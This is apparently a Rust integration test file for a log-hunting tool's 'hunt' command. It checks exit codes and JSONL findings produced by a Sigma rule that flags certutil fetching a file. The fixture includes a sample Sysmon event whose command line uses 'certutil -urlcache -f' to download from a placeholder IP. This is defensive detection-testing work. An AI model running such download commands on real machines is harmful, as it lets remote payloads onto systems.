//! The command `ungcuu hunt` as a script meets it: what stands on standard output and what the exit code says.

mod choosing;
#[path = "../common/mod.rs"]
mod common;
mod examining;
#[path = "../common/sender.rs"]
mod sender;
mod sending;

use std::path::Path;
use std::process::{Command, Output, Stdio};

const RULE: &str = "title: Certutil fetches a file
id: 3f0f5a3e-7d3c-4a5e-9f53-2b1d5c7a9e10
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        Image|endswith: '\\certutil.exe'
        CommandLine|contains: urlcache
    condition: selection
level: high
";

const EVENT: &str = r#"{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"EventRecordID":7,"Computer":"may-02","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil  -urlcache -f http://198.51.100.23/a"}
"#;

fn folder(event: &str) -> tempfile::TempDir {
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::create_dir(folder.path().join("rules")).expect("a folder");
    std::fs::create_dir(folder.path().join("logs")).expect("a folder");
    std::fs::write(folder.path().join("rules/certutil.yml"), RULE).expect("a rule");
    std::fs::write(folder.path().join("logs/sysmon.json"), event).expect("a log");
    folder
}

fn hunt(folder: &Path, path: &str) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_ungcuu"));
    command.current_dir(folder).args(["hunt", path, "--rules", "rules", "--format", "jsonl"]);
    command
}

fn run(folder: &Path, path: &str) -> Output {
    hunt(folder, path).output().expect("the command runs")
}

#[test]
fn a_finding_is_a_line_and_the_answer_is_one() {
    let folder = folder(EVENT);
    let output = run(folder.path(), "logs");
    assert_eq!(output.status.code(), Some(1));
    let words = String::from_utf8(output.stdout).expect("text");
    let finding: serde_json::Value = serde_json::from_str(words.trim()).expect("one object");
    assert_eq!(finding["rule_id"], "3f0f5a3e-7d3c-4a5e-9f53-2b1d5c7a9e10");
    assert_eq!((&finding["host"], &finding["record"]), (&"may-02".into(), &7.into()));
    // As it stands in the log, both blanks of it.
    assert_eq!(finding["fields"]["CommandLine"], "certutil  -urlcache -f http://198.51.100.23/a");
}

#[test]
fn nothing_found_is_zero() {
    let folder = folder(&EVENT.replace("urlcache", "hashfile"));
    let output = run(folder.path(), "logs");
    assert_eq!(output.status.code(), Some(0));
    assert!(output.stdout.is_empty());
}

#[test]
fn what_could_not_be_read_is_two_and_named() {
    let folder = folder(EVENT);
    let output = run(folder.path(), "nowhere");
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("nowhere"));
}

#[test]
fn whoever_stops_reading_the_words_still_gets_the_exit_code() {
    let folder = folder(EVENT);
    let mut child = hunt(folder.path(), "logs").stdout(Stdio::null()).stderr(Stdio::piped()).spawn().expect("runs");
    // Nobody listens to what is said about the findings.
    drop(child.stderr.take());
    assert_eq!(child.wait().expect("ends").code(), Some(1));
}
